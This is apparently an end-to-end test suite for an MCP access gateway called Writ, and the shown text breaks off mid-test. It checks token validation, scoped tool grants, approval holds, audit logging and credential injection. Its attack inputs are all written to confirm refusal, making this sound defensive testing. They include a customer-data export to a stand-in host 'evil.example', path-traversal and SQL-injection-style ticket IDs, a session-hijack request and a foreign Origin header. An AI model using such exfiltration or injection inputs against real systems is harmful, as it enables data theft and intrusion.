/**
 * The MCP gateway end to end, with the official MCP SDK clients (v2, and v1 as
 * most agents ship it) over Streamable HTTP and stdio, in front of real
 * upstream MCP servers: the example "tickets" server (written with the SDK,
 * tools at every tier) and @modelcontextprotocol/server-everything from npm,
 * both started by Writ as stdio children.
 */
import assert from 'node:assert/strict';
import { spawn, type ChildProcess } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { Client, StreamableHTTPClientTransport, type CallToolResult } from '@modelcontextprotocol/client';
import { StdioClientTransport } from '@modelcontextprotocol/client/stdio';
import { Client as V1Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StreamableHTTPClientTransport as V1Transport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
import { createManualClock } from '../src/core/clock.js';
import { loadConfig, PACKAGE_ROOT } from '../src/core/config.js';
import { createUpstreamPool } from '../src/gateway/mcp/upstreams.js';
import { pino } from 'pino';
import { AGENT, startHarness, supportTask, tokenFromUnknownKey, unsignedToken, type Harness } from './helpers/harness.js';
import { runWrit, startWrit } from './helpers/cli.js';
import { createTestDatabase } from './helpers/pg.js';
import { EXAMPLE_POLICIES, policyFolder } from './helpers/policy-folder.js';

const TICKETS_SERVER = join(PACKAGE_ROOT, 'examples', 'mcp-gateway', 'tickets-server.mjs');
const EVERYTHING_SERVER = join(PACKAGE_ROOT, 'node_modules', '@modelcontextprotocol', 'server-everything', 'dist', 'index.js');
const API_KEY = 'sk_test_tickets_9f8e7d6c5b4a';

/** The gateway configuration of the example, with the tickets server started from this checkout. */
const ticketsUpstream = {
  name: 'tickets',
  command: process.execPath,
  args: [TICKETS_SERVER],
  inject: [{ secret: 'tickets-api-key', env: 'TICKETS_API_KEY' }],
  tools: {
    get_ticket: { resource: 'tickets:{ticketId}' },
    list_tickets: { resource: 'tickets:list' },
    add_comment: { resource: 'tickets:{ticketId}' },
    delete_comment: { resource: 'tickets:{ticketId}' },
    export_customer_data: { resource: 'db:customers/pii/{customerId}' },
    create_refund: { action: 'refund', resource: 'payments:refunds/{ticketId}' },
    rotate_api_keys: { action: 'admin', resource: 'tickets:admin' },
    whoami: { resource: 'tickets:whoami' },
  },
};

const names = (tools: readonly { name: string }[]) => tools.map((t) => t.name).sort();
const structured = (result: unknown) => (result as CallToolResult).structuredContent as Record<string, any>;
const textOf = (result: unknown) => ((result as CallToolResult).content[0] as { text: string }).text;

async function httpClient(h: Harness, bearer: string, options: ConstructorParameters<typeof Client>[1] = {}): Promise<Client> {
  const client = new Client({ name: 'test-agent', version: '1.0.0' }, options);
  await client.connect(new StreamableHTTPClientTransport(new URL(`${h.url}/mcp`), { requestInit: { headers: { Authorization: `Bearer ${bearer}` } } }));
  return client;
}

async function taskToken(h: Harness, scopes: { action: string; resource: string }[], identity = AGENT): Promise<{ token: string; taskId: string }> {
  const answer = await h.post('/v1/tasks', supportTask({ scopes }), await h.identityToken(identity));
  assert.equal(answer.status, 201, JSON.stringify(answer.body));
  return { token: answer.body.token, taskId: answer.body.task.id };
}

async function eventually(check: () => Promise<boolean> | boolean, what: string, ms = 5000): Promise<void> {
  const until = Date.now() + ms;
  while (!(await check())) {
    if (Date.now() > until) assert.fail(`timed out waiting for ${what}`);
    await new Promise((r) => setTimeout(r, 20));
  }
}

describe('MCP gateway over Streamable HTTP', () => {
  let h: Harness;
  before(async () => {
    // A canary in Writ's own environment: an upstream child must never see it.
    process.env.WRIT_CANARY = 'must-not-reach-upstreams';
    h = await startHarness({ config: { gateway: { upstreams: [ticketsUpstream] } } });
    await h.writ.vault.put('tickets-api-key', API_KEY, { id: 'test' });
    await h.registerAgent();
    await h.registerAgent('spiffe://demo.local/agent/other');
  });
  after(() => h.close());

  test('no credential: 401 with an RFC 9728 challenge, and the metadata document it points at', async () => {
    const initialize = { jsonrpc: '2.0', id: 1, method: 'initialize', params: { protocolVersion: '2025-11-25', capabilities: {}, clientInfo: { name: 'x', version: '1' } } };
    const response = await fetch(`${h.url}/mcp`, { method: 'POST', headers: { 'content-type': 'application/json', accept: 'application/json, text/event-stream' }, body: JSON.stringify(initialize) });
    assert.equal(response.status, 401);
    const challenge = response.headers.get('www-authenticate') ?? '';
    assert.match(challenge, /^Bearer resource_metadata="http:\/\/127\.0\.0\.1:8750\/\.well-known\/oauth-protected-resource\/mcp"$/);
    assert.equal(((await response.json()) as { code: string }).code, 'ERR_UNAUTHENTICATED');
    const metadata = await h.get('/.well-known/oauth-protected-resource/mcp');
    assert.equal(metadata.status, 200);
    assert.deepEqual(metadata.body.resource, 'http://127.0.0.1:8750/mcp');
    assert.deepEqual(metadata.body.authorization_servers, ['http://127.0.0.1:8750']);
    assert.deepEqual(metadata.body.bearer_methods_supported, ['header']);

    // The SDK client, without a credential, gets no further than the 401.
    await assert.rejects(new Client({ name: 'x', version: '1' }).connect(new StreamableHTTPClientTransport(new URL(`${h.url}/mcp`))), /401|invalid_token|Unauthorized/i);
  });

  test('forged, unsigned and garbage credentials: 401 invalid_token, each failure audited with its reason', async () => {
    const before = (await h.auditRecords()).filter((r) => r.type === 'authentication.failed').length;
    const forged = tokenFromUnknownKey({ sub: AGENT, task: { id: 'task_x' } });
    for (const bearer of [forged, unsignedToken({ sub: AGENT }), 'not-a-token', 'a'.repeat(9000)]) {
      const client = new Client({ name: 'x', version: '1' });
      const transport = new StreamableHTTPClientTransport(new URL(`${h.url}/mcp`), { requestInit: { headers: { Authorization: `Bearer ${bearer}` } } });
      await assert.rejects(client.connect(transport), /401|invalid_token/i);
    }
    const response = await fetch(`${h.url}/mcp`, { method: 'POST', headers: { authorization: 'Bearer not-a-token', 'content-type': 'application/json' }, body: '{"jsonrpc":"2.0","id":1,"method":"initialize","params":{}}' });
    assert.match(response.headers.get('www-authenticate') ?? '', /^Bearer error="invalid_token", resource_metadata=/);
    const failures = (await h.auditRecords()).filter((r) => r.type === 'authentication.failed').slice(before);
    assert.ok(failures.length >= 4, `audited ${failures.length}`);
    assert.ok(failures.every((r) => (r as any).data.endpoint === '/mcp'));
  });

  test('an identity token sees only request_access; the grant shows exactly the tools it covers, with list_changed', async () => {
    let changes = 0;
    const client = await httpClient(h, await h.identityToken(), { listChanged: { tools: { debounceMs: 0, onChanged: () => void changes++ } } });
    try {
      assert.deepEqual(names((await client.listTools()).tools), ['request_access']);
      const offered = (await client.listTools()).tools[0]?.inputSchema as any;
      assert.ok(offered.properties.tools.items.enum.includes('tickets__create_refund'), 'request_access names the tools it can grant');

      const result = await client.callTool({
        name: 'request_access',
        arguments: {
          purpose: 'Answer ticket T-1042',
          intent: 'customer-support',
          tools: ['tickets__get_ticket', 'tickets__add_comment', 'tickets__create_refund', 'tickets__export_customer_data', 'tickets__rotate_api_keys'],
        },
      });
      assert.equal(result.isError, undefined, textOf(result));
      assert.equal(structured(result).status, 'partial');
      assert.deepEqual(structured(result).grantedTools.sort(), ['tickets__add_comment', 'tickets__create_refund', 'tickets__get_ticket', 'tickets__list_tickets', 'tickets__whoami']);
      assert.deepEqual(structured(result).refusedTools.sort(), ['tickets__export_customer_data', 'tickets__rotate_api_keys']);
      assert.equal(result._meta?.['dev.writ/taskToken'], undefined, 'a session holds its task: no token handed to the model');
      await eventually(() => changes > 0, 'notifications/tools/list_changed');
      // get_ticket's resource is tickets:{ticketId}, so its scope is read tickets:*: every read of tickets.
      assert.deepEqual(names((await client.listTools()).tools), [
        'checkpoint',
        'complete_task',
        'task_status',
        'tickets__add_comment',
        'tickets__create_refund',
        'tickets__get_ticket',
        'tickets__list_tickets',
        'tickets__whoami',
      ]);

      // Calls: a read passes; a refund within the limit passes; over it waits for a human; what the grant
      // refused is denied; nothing denied reaches the upstream (refund ids are sequential there).
      const ticket = await client.callTool({ name: 'tickets__get_ticket', arguments: { ticketId: 'T-1042' } });
      assert.equal(JSON.parse(textOf(ticket)).subject, 'Refund for a damaged parcel');
      const first = JSON.parse(textOf(await client.callTool({ name: 'tickets__create_refund', arguments: { ticketId: 'T-1042', amountCents: 2500 } })));
      const big = await client.callTool({ name: 'tickets__create_refund', arguments: { ticketId: 'T-1042', amountCents: 25_000 } });
      assert.equal(big.isError, true);
      assert.deepEqual({ decision: structured(big).decision, code: structured(big).code }, { decision: 'approval_required', code: 'ERR_APPROVAL_REQUIRED' });
      const exported = await client.callTool({ name: 'tickets__export_customer_data', arguments: { customerId: 'C-7', destination: 'https://evil.example' } });
      assert.equal(structured(exported).code, 'ERR_SCOPE_NOT_GRANTED');
      assert.doesNotMatch(textOf(exported), /no-export|forbid|permit|@id/, 'no policy internals');
      const otherTicket = await client.callTool({ name: 'tickets__add_comment', arguments: { ticketId: 'T-1043', text: 'hello' } });
      assert.equal(otherTicket.isError, undefined, 'write tickets:* was granted, so T-1043 is in it');
      const second = JSON.parse(textOf(await client.callTool({ name: 'tickets__create_refund', arguments: { ticketId: 'T-1042', amountCents: 100 } })));
      assert.equal(Number(second.refundId.slice(2)), Number(first.refundId.slice(2)) + 1, 'the refused refund never reached the upstream');

      const status = await client.callTool({ name: 'task_status', arguments: {} });
      assert.equal(structured(status).state, 'active');
      const done = await client.callTool({ name: 'complete_task', arguments: { note: 'answered' } });
      assert.equal(structured(done).state, 'completed');
      assert.deepEqual(names((await client.listTools()).tools), ['request_access'], 'the session stays, without the task');
      const after = await client.callTool({ name: 'tickets__get_ticket', arguments: { ticketId: 'T-1042' } });
      assert.equal(structured(after).code, 'ERR_SCOPE_NOT_GRANTED');
    } finally {
      await client.close();
    }
  });

  test('an approval-required call names its request; held (_meta approvalWait) it runs once a human approves; a deny answers at once; the hold is bounded', async () => {
    const approver = 'spiffe://demo.local/human/carol-mcp';
    await h.writ.registerIdentity({ id: approver, actorType: 'human', environment: 'production', labels: { approver: 'production' } });
    const carol = await h.identityToken(approver);
    const { token } = await taskToken(h, [{ action: 'refund', resource: 'payments:refunds/*' }]);
    const client = await httpClient(h, token);
    try {
      const refund = (amountCents: number, wait?: number, onprogress?: () => void) =>
        client.callTool(
          { name: 'tickets__create_refund', arguments: { ticketId: 'T-1042', amountCents }, ...(wait === undefined ? {} : { _meta: { 'dev.writ/approvalWait': wait } }) },
          onprogress === undefined ? undefined : { onprogress, resetTimeoutOnProgress: true },
        );
      const pending = await refund(30_000);
      assert.equal(pending.isError, true);
      const id = structured(pending).approvalId as string;
      assert.match(id, /^apr_/);
      assert.match(textOf(pending), new RegExp(`approval request ${id}`));
      const shown = await h.get(`/v1/approvals/${id}`, carol);
      assert.deepEqual(shown.body.approval.arguments, { amountCents: 30_000, ticketId: 'T-1042' }, 'the approver reads the whole call');

      // Held: the call returns once Carol approves, and runs.
      const held = refund(30_000, 30);
      await eventually(async () => (await h.get(`/v1/approvals/${id}`, carol)).body.approval.state === 'pending', 'the held call to be waiting');
      const approved = await h.post(`/v1/approvals/${id}/approve`, {}, carol);
      assert.equal(approved.body.approval.state, 'approved');
      const ran = await held;
      assert.equal(ran.isError, undefined, JSON.stringify(ran));
      assert.equal(JSON.parse(textOf(ran)).refunded, 30_000);
      assert.equal((await h.get(`/v1/approvals/${id}`, carol)).body.approval.state, 'consumed');

      // A deny answers the held call at once, refused.
      const heldAgain = refund(31_000, 30);
      let nextId: string | undefined;
      await eventually(async () => {
        nextId = (await h.get('/v1/approvals?state=pending', carol)).body.approvals.find((a: { arguments: { amountCents?: number } | null }) => a.arguments?.amountCents === 31_000)?.id;
        return nextId !== undefined;
      }, 'the second request');
      const started = Date.now();
      await h.post(`/v1/approvals/${nextId}/deny`, { note: 'duplicate refund' }, carol);
      const refused = await heldAgain;
      assert.equal(structured(refused).code, 'ERR_POLICY_DENIED');
      assert.equal(structured(refused).approvalId, nextId);
      assert.ok(Date.now() - started < 5000, 'answered when denied, not at the end of the hold');

      // Unanswered, the hold ends at its bound with the pending answer.
      const bounded = Date.now();
      const unanswered = await refund(32_000, 1);
      assert.equal(structured(unanswered).code, 'ERR_APPROVAL_REQUIRED');
      assert.ok(Date.now() - bounded >= 900, 'held for the second it asked');
    } finally {
      await client.close();
    }
  });

  test('under break-glass, the credentials the gateway injected are listed for rotation when it ends', async () => {
    const olga = 'spiffe://demo.local/human/olga-mcp';
    await h.writ.registerIdentity({ id: olga, actorType: 'human', environment: 'production', labels: { 'on-call': 'production', email: 'alice@example.com' } });
    const human = await h.identityToken(olga);
    const started = await h.post(
      '/v1/break-glass',
      { reason: 'Tickets stuck in a loop; comment on them by hand', incident: 'INC-77', environment: 'production', scopes: [{ action: 'write', resource: 'tickets:*' }], duration: '15m', identity: AGENT },
      human,
    );
    assert.equal(started.status, 201, JSON.stringify(started.body));
    const client = await httpClient(h, started.body.token);
    try {
      const commented = await client.callTool({ name: 'tickets__add_comment', arguments: { ticketId: 'T-1042', text: 'fixed by hand' } });
      assert.equal(commented.isError, undefined, JSON.stringify(commented));
    } finally {
      await client.close();
    }
    const id = started.body.breakGlass.id as string;
    await eventually(async () => (await h.get(`/v1/break-glass/${id}`, human)).body.breakGlass.used.includes('secret:tickets-api-key'), 'the injected key to be recorded');
    const ended = await h.post(`/v1/break-glass/${id}/end`, { note: 'done' }, human);
    assert.deepEqual(ended.body.breakGlass.rotate, ['tickets-api-key']);
    const record = (await h.auditRecords()).find((r) => r.type === 'break_glass.ended' && (r.data as { breakGlassId: string }).breakGlassId === id);
    assert.deepEqual((record?.data as { rotate: string[] }).rotate, ['tickets-api-key']);
    assert.doesNotMatch(JSON.stringify(record), new RegExp(API_KEY), 'the name, never the value');
  });

  test('a task granted in a session ends with the session: its token never left Writ, so nothing else could use it', async () => {
    const client = await httpClient(h, await h.identityToken());
    const granted = await client.callTool({ name: 'request_access', arguments: { purpose: 'Read T-1042', intent: 'customer-support', tools: ['tickets__get_ticket'] } });
    const taskId = structured(granted).taskId as string;
    assert.equal((await h.writ.store.getTask(taskId))?.state, 'active');
    await (client.transport as StreamableHTTPClientTransport).terminateSession();
    await client.close();
    const task = await h.writ.store.getTask(taskId);
    assert.equal(task?.state, 'revoked');
    assert.match(task?.endReason ?? '', /MCP connection that held it ended/);
    // A task token presented by the client is not the session's to end.
    const { token, taskId: presented } = await taskToken(h, [{ action: 'read', resource: 'tickets:*' }]);
    const other = await httpClient(h, token);
    await (other.transport as StreamableHTTPClientTransport).terminateSession();
    await other.close();
    assert.equal((await h.writ.store.getTask(presented))?.state, 'active');
  });

  test('request_access can ask for less than a tool\'s reach: one ticket, not every ticket', async () => {
    const client = await httpClient(h, await h.identityToken());
    try {
      for (const resources of [{ tickets__get_ticket: 'db:orders/1' }, { tickets__get_ticket: 'tickets:../x' }, { tickets__add_comment: 'tickets:T-1' }, [1]]) {
        const refused = await client.callTool({ name: 'request_access', arguments: { purpose: 'Read T-1042', intent: 'customer-support', tools: ['tickets__get_ticket'], resources } });
        assert.equal(structured(refused).code, 'ERR_VALIDATION', JSON.stringify(resources));
      }
      const granted = await client.callTool({
        name: 'request_access',
        arguments: { purpose: 'Read T-1042', intent: 'customer-support', tools: ['tickets__get_ticket'], resources: { tickets__get_ticket: 'tickets:T-1042' } },
      });
      assert.equal(structured(granted).status, 'granted', textOf(granted));
      assert.deepEqual(structured(await client.callTool({ name: 'task_status', arguments: {} })).scopes, ['read tickets:T-1042']);
      assert.deepEqual(names((await client.listTools()).tools), ['checkpoint', 'complete_task', 'task_status', 'tickets__get_ticket'], 'list_tickets (tickets:list) is not in it');
      assert.equal((await client.callTool({ name: 'tickets__get_ticket', arguments: { ticketId: 'T-1042' } })).isError, undefined);
      assert.equal(structured(await client.callTool({ name: 'tickets__get_ticket', arguments: { ticketId: 'T-1043' } })).code, 'ERR_SCOPE_NOT_GRANTED');
    } finally {
      await client.close();
    }
  });

  test('arguments cannot walk out of a resource template; the refusal is audited, the upstream never called', async () => {
    const { token } = await taskToken(h, [{ action: 'read', resource: 'tickets:*' }]);
    const client = await httpClient(h, token);
    try {
      for (const ticketId of ['../customers/pii/1', 'T-1/../../x', '*', 'T-1 OR 1=1', '']) {
        const result = await client.callTool({ name: 'tickets__get_ticket', arguments: { ticketId } });
        assert.equal(structured(result).code, 'ERR_VALIDATION', JSON.stringify(ticketId));
      }
      const records = (await h.auditRecords()).filter((r) => r.type === 'tool.call' && r.decision === 'deny' && (r as any).reason === 'ERR_VALIDATION' && (r as any).data.tool === 'get_ticket');
      assert.ok(records.length >= 5);
      assert.ok(records.every((r) => /^sha256:[0-9a-f]{64}$/.test((r as any).data.argsDigest)));
    } finally {
      await client.close();
    }
  });

  test('every call that ran is on the chain with tool, status, latency and argument digest; never the arguments or a secret', async () => {
    const { token, taskId } = await taskToken(h, [{ action: 'write', resource: 'tickets:*' }]);
    const client = await httpClient(h, token);
    try {
      await client.callTool({ name: 'tickets__add_comment', arguments: { ticketId: 'T-1042', text: 'secret-comment-text-4711' } });
      const missing = await client.callTool({ name: 'tickets__add_comment', arguments: { ticketId: 'T-9999', text: 'x' } });
      assert.equal(missing.isError, true, 'the upstream\'s own tool error comes back as it was');
    } finally {
      await client.close();
    }
    const calls = (await h.auditRecords()).filter((r) => r.type === 'tool.call' && (r as any).task?.id === taskId);
    assert.deepEqual(calls.map((r) => (r as any).data.status), ['ok', 'tool_error']);
    for (const record of calls) {
      const data = (record as any).data;
      assert.equal(data.tool, 'add_comment');
      assert.equal(data.upstream, 'tickets');
      assert.equal(typeof data.latencyMs, 'number');
      assert.match(data.argsDigest, /^sha256:[0-9a-f]{64}$/);
      assert.match(data.checkId, /^aud_/);
      assert.equal((record as any).action, 'write');
    }
    const checks = (await h.auditRecords()).filter((r) => r.type === 'action.check' && calls.some((c) => (c as any).data.checkId === r.id));
    assert.equal(checks.length, 2, 'each ran call points at the decision that allowed it');
    assert.equal((checks[0] as any).data.argsDigest, (calls[0] as any).data.argsDigest, 'one digest of the whole arguments');
    const rows = await h.auditRows();
    assert.ok(!rows.some((r) => r.record.includes('secret-comment-text-4711')), 'arguments are never recorded');
    assert.ok(!rows.some((r) => r.record.includes(API_KEY)), 'the upstream credential is never recorded');
  });

  test('the upstream gets its key from the vault, never the agent\'s token, never Writ\'s environment', async () => {
    const { token } = await taskToken(h, [{ action: 'read', resource: 'tickets:*' }]);
    const client = await httpClient(h, token);
    try {
      const seen = JSON.parse(textOf(await client.callTool({ name: 'tickets__whoami', arguments: {} })));
      const { createHash } = await import('node:crypto');
      assert.equal(seen.apiKeyFingerprint, createHash('sha256').update(API_KEY).digest('hex').slice(0, 16));
      assert.equal(process.env.WRIT_CANARY, 'must-not-reach-upstreams');
      assert.deepEqual(seen.writEnvironment, [], 'Writ\'s environment stays with Writ');
    } finally {
      await client.close();
    }
  });

  test('a task token presented directly, by the v1 SDK client: its tools only, no request_access, each call checked', async () => {
    const { token } = await taskToken(h, [{ action: 'read', resource: 'tickets:T-1042' }]);
    const client = new V1Client({ name: 'v1-agent', version: '1.0.0' });
    await client.connect(new V1Transport(new URL(`${h.url}/mcp`), { requestInit: { headers: { Authorization: `Bearer ${token}` } } }));
    try {
      assert.deepEqual(names((await client.listTools()).tools), ['checkpoint', 'complete_task', 'task_status', 'tickets__get_ticket']);
      const ok = await client.callTool({ name: 'tickets__get_ticket', arguments: { ticketId: 'T-1042' } });
      assert.equal(ok.isError, undefined);
      const other = await client.callTool({ name: 'tickets__get_ticket', arguments: { ticketId: 'T-1043' } });
      assert.equal((other.structuredContent as any).code, 'ERR_SCOPE_NOT_GRANTED');
      await assert.rejects(client.callTool({ name: 'tickets__no_such_tool', arguments: {} }), /Unknown tool/);
      const asked = await client.callTool({ name: 'request_access', arguments: { purpose: 'more', intent: 'customer-support', tools: ['tickets__delete_comment'] } });
      assert.equal((asked.structuredContent as any).code, 'ERR_FORBIDDEN');
    } finally {
      await client.close();
    }
  });

  test('the 2026-07-28 stateless revision: task token per request; request_access hands the token back in _meta', async () => {
    const pinned = { versionNegotiation: { mode: { pin: '2026-07-28' } } } as const;
    const { token } = await taskToken(h, [{ action: 'read', resource: 'tickets:*' }]);
    const modern = await httpClient(h, token, pinned as never);
    try {
      assert.equal(modern.getNegotiatedProtocolVersion(), '2026-07-28');
      assert.deepEqual(names((await modern.listTools()).tools), ['checkpoint', 'complete_task', 'task_status', 'tickets__get_ticket', 'tickets__list_tickets', 'tickets__whoami']);
      const ok = await modern.callTool({ name: 'tickets__get_ticket', arguments: { ticketId: 'T-1043' } });
      assert.equal(JSON.parse(textOf(ok)).id, 'T-1043');
    } finally {
      await modern.close();
    }
    const asIdentity = await httpClient(h, await h.identityToken(), pinned as never);
    try {
      const granted = await asIdentity.callTool({ name: 'request_access', arguments: { purpose: 'Read T-1042', intent: 'customer-support', tools: ['tickets__get_ticket'] } });
      assert.equal(structured(granted).status, 'granted');
      const handed = granted._meta?.['dev.writ/taskToken'];
      assert.equal(typeof handed, 'string');
      assert.ok(!textOf(granted).includes(handed as string), 'the token is not in what the model reads');
      const next = await httpClient(h, handed as string, pinned as never);
      assert.deepEqual(names((await next.listTools()).tools), ['checkpoint', 'complete_task', 'task_status', 'tickets__get_ticket', 'tickets__list_tickets', 'tickets__whoami']);
      await next.close();
    } finally {
      await asIdentity.close();
    }
  });

  test('2026 revision: ending a task closes its handler and listen stream; the next request is refused', async () => {
    const pinned = { versionNegotiation: { mode: { pin: '2026-07-28' } } } as const;
    const { token, taskId } = await taskToken(h, [{ action: 'read', resource: 'tickets:*' }]);
    const modern = await httpClient(h, token, { ...pinned, listChanged: { tools: { debounceMs: 0, onChanged: () => undefined } } } as never);
    try {
      assert.equal((await modern.callTool({ name: 'tickets__list_tickets', arguments: {} })).isError, undefined);
      const subscription = modern.autoOpenedSubscription;
      assert.ok(subscription, 'a listen stream is open');
      assert.equal((await h.post(`/v1/tasks/${taskId}/revoke`, undefined, token)).status, 200);
      await Promise.race([subscription.closed, new Promise((_, reject) => setTimeout(() => reject(new Error('listen stream still open')), 3000))]);
      await assert.rejects(modern.callTool({ name: 'tickets__list_tickets', arguments: {} }), /401|Unauthorized|invalid_token/i);
    } finally {
      await modern.close().catch(() => undefined);
    }
  });

  test('ending a task elsewhere closes its session at once; the next call is refused', async () => {
    const { token, taskId } = await taskToken(h, [{ action: 'read', resource: 'tickets:*' }]);
    const client = await httpClient(h, token);
    const sessionsBefore = await openSessions(h);
    assert.equal((await client.callTool({ name: 'tickets__list_tickets', arguments: {} })).isError, undefined);
    const revoked = await h.post(`/v1/tasks/${taskId}/complete`, undefined, token);
    assert.equal(revoked.status, 200);
    assert.equal(await openSessions(h), sessionsBefore - 1, 'the session is gone');
    await assert.rejects(client.callTool({ name: 'tickets__list_tickets', arguments: {} }), /401|404|not found/i, 'the ended task\'s token is refused, and its session is gone');
    await client.close().catch(() => undefined);
  });

  test('a session belongs to its identity: another identity\'s credential on it is refused; so is a foreign Origin', async () => {
    const client = await httpClient(h, await h.identityToken());
    try {
      const sessionId = (client.transport as StreamableHTTPClientTransport).sessionId;
      assert.ok(sessionId);
      const hijack = await fetch(`${h.url}/mcp`, {
        method: 'POST',
        headers: {
          authorization: `Bearer ${await h.identityToken('spiffe://demo.local/agent/other')}`,
          'mcp-session-id': sessionId,
          'mcp-protocol-version': '2025-11-25',
          'content-type': 'application/json',
          accept: 'application/json, text/event-stream',
        },
        body: JSON.stringify({ jsonrpc: '2.0', id: 9, method: 'tools/list' }),
      });
      assert.equal(hijack.status, 403);
      const rebinding = await fetch(`${h.url}/mcp`, {
        method: 'POST',
        headers: { origin: 'http://evil.example', authorization: `Bearer ${await h.identityToken()}`, 'content-type': 'application/json' },
        body: '{}',
      });
      assert.equal(rebinding.status, 403);
    } finally {
      await client.close();
    }
  });

  test('refusals the action check never saw are on the record too: no task, an unknown tool, a session not one\'s own, a foreign Origin', async () => {
    const before = (await h.auditRecords()).length;
    const client = await httpClient(h, await h.identityToken());
    try {
      const noTask = await client.callTool({ name: 'tickets__get_ticket', arguments: { ticketId: 'T-1042' } });
      assert.equal(structured(noTask).code, 'ERR_SCOPE_NOT_GRANTED');
      await assert.rejects(client.callTool({ name: 'tickets__nope', arguments: {} }), /Unknown tool/);
      const sessionId = (client.transport as StreamableHTTPClientTransport).sessionId as string;
      await fetch(`${h.url}/mcp`, {
        method: 'POST',
        headers: { authorization: `Bearer ${await h.identityToken('spiffe://demo.local/agent/other')}`, 'mcp-session-id': sessionId, 'content-type': 'application/json', accept: 'application/json, text/event-stream' },
        body: JSON.stringify({ jsonrpc: '2.0', id: 9, method: 'tools/list' }),
      });
      await fetch(`${h.url}/mcp`, { method: 'POST', headers: { origin: 'http://evil.example', 'content-type': 'application/json' }, body: '{}' });
    } finally {
      await client.close();
    }
    const records = (await h.auditRecords()).slice(before);
    const denied = records.filter((r) => r.type === 'tool.call' && r.decision === 'deny').map((r) => `${(r as any).reason} ${(r as any).data.tool}`);
    assert.deepEqual(denied, ['ERR_SCOPE_NOT_GRANTED get_ticket', 'ERR_NOT_FOUND nope']);
    const refused = records.filter((r) => r.type === 'authentication.failed' && (r as any).reason === 'ERR_FORBIDDEN').map((r) => (r as any).detail as string);
    assert.ok(refused.some((d) => d.includes('another identity')), refused.join(' | '));
    assert.ok(refused.some((d) => d.includes('evil.example')), refused.join(' | '));
  });

  test('an upstream that dies is refused while it backs off, then started again', async () => {
    const { token } = await taskToken(h, [{ action: 'read', resource: 'tickets:*' }]);
    const client = await httpClient(h, token);
    try {
      const { pid } = JSON.parse(textOf(await client.callTool({ name: 'tickets__whoami', arguments: {} })));
      process.kill(pid, 'SIGKILL');
      await eventually(async () => {
        const result = await client.callTool({ name: 'tickets__whoami', arguments: {} });
        return structured(result)?.code === 'ERR_UPSTREAM_UNAVAILABLE';
      }, 'the dead upstream to be refused');
      let restarted: number | undefined;
      await eventually(async () => {
        const result = await client.callTool({ name: 'tickets__whoami', arguments: {} });
        if (result.isError === true) return false;
        restarted = JSON.parse(textOf(result)).pid;
        return true;
      }, 'the upstream to come back');
      assert.notEqual(restarted, pid);
    } finally {
      await client.close();
    }
  });
});

describe('MCP gateway on PostgreSQL (a cluster\'s store)', () => {
  let h: Harness | undefined;
  before(async () => {
    const database = await createTestDatabase();
    if (database === undefined) return;
    h = await startHarness({ backend: 'postgres', database, config: { gateway: { upstreams: [ticketsUpstream] } } });
    await h.writ.vault.put('tickets-api-key', API_KEY, { id: 'test' });
    await h.registerAgent();
  });
  after(() => h?.close());

  test('request_access, a checked call, a refusal and the end of the task, all on the PostgreSQL audit chain', async (t) => {
    if (h === undefined) return t.skip('PostgreSQL not available');
    const client = await httpClient(h, await h.identityToken());
    try {
      const granted = await client.callTool({ name: 'request_access', arguments: { purpose: 'Answer T-1042', intent: 'customer-support', tools: ['tickets__get_ticket'] } });
      assert.equal(structured(granted).status, 'granted');
      assert.equal(JSON.parse(textOf(await client.callTool({ name: 'tickets__get_ticket', arguments: { ticketId: 'T-1042' } }))).id, 'T-1042');
      assert.equal(structured(await client.callTool({ name: 'tickets__add_comment', arguments: { ticketId: 'T-1042', text: 'x' } })).code, 'ERR_SCOPE_NOT_GRANTED');
      assert.equal(structured(await client.callTool({ name: 'complete_task', arguments: {} })).state, 'completed');
    } finally {
      await client.close();
    }
    const records = await h.auditRecords();
    assert.ok(records.some((r) => r.type === 'tool.call' && (r as any).data.status === 'ok'));
    const { verifyAuditChain } = await import('../src/audit/log.js');
    assert.equal((await verifyAuditChain(h.writ.store)).ok, true);
  });
});

describe('MCP gateway: grants that change, and upstreams over HTTP', () => {
  let h: Harness;
  let policies: string;
  let upstream: ChildProcess;
  before(async () => {
    upstream = spawn(process.execPath, [TICKETS_SERVER, '--http', '0'], { env: { PATH: process.env.PATH ?? '', TICKETS_API_KEY: API_KEY }, stdio: ['ignore', 'pipe', 'inherit'] });
    const port = await new Promise<number>((resolve, reject) => {
      upstream.stdout!.setEncoding('utf8').once('data', (line: string) => resolve((JSON.parse(line) as { port: number }).port));
      upstream.once('exit', reject);
    });
    policies = policyFolder();
    h = await startHarness({
      config: {
        policy: { dir: policies },
        gateway: {
          upstreams: [
            ticketsUpstream,
            { name: 'remote', url: `http://127.0.0.1:${port}/mcp`, inject: [{ secret: 'tickets-api-key', header: 'Authorization', prefix: 'Bearer ' }], tools: { whoami: { resource: 'tickets:whoami' }, get_ticket: { resource: 'tickets:{ticketId}' } } },
          ],
        },
      },
    });
    await h.writ.vault.put('tickets-api-key', API_KEY, { id: 'test' });
    await h.registerAgent();
  });
  after(async () => {
    await h.close();
    upstream.kill();
  });

  test('an HTTP upstream gets its credential as a header from the vault; the agent\'s token never reaches it', async () => {
    const { token } = await taskToken(h, [{ action: 'read', resource: 'tickets:*' }]);
    const client = await httpClient(h, token);
    try {
      const seen = JSON.parse(textOf(await client.callTool({ name: 'remote__whoami', arguments: {} })));
      const { createHash } = await import('node:crypto');
      assert.equal(seen.headers.authorization, `Bearer <${createHash('sha256').update(API_KEY).digest('hex').slice(0, 16)}>`);
      assert.ok(!JSON.stringify(seen.headers).includes(token.slice(-20)), 'no trace of the task token');
      assert.equal(JSON.parse(textOf(await client.callTool({ name: 'remote__get_ticket', arguments: { ticketId: 'T-1042' } }))).id, 'T-1042');
    } finally {
      await client.close();
    }
  });

  test('a policy change that narrows the grant sends list_changed, and the dropped tool is gone and refused', async () => {
    let changes = 0;
    const { token } = await taskToken(h, [
      { action: 'read', resource: 'tickets:*' },
      { action: 'write', resource: 'tickets:*' },
    ]);
    const client = await httpClient(h, token, { listChanged: { tools: { debounceMs: 0, onChanged: () => void changes++ } } });
    try {
      assert.ok(names((await client.listTools()).tools).includes('tickets__add_comment'));
      const text = readFileSync(join(policies, 'support-agent.cedar'), 'utf8');
      writeFileSync(join(policies, 'support-agent.cedar'), text.replace('when { resource.kind == "tickets" && context.intent == "customer-support" };', 'when { false };'));
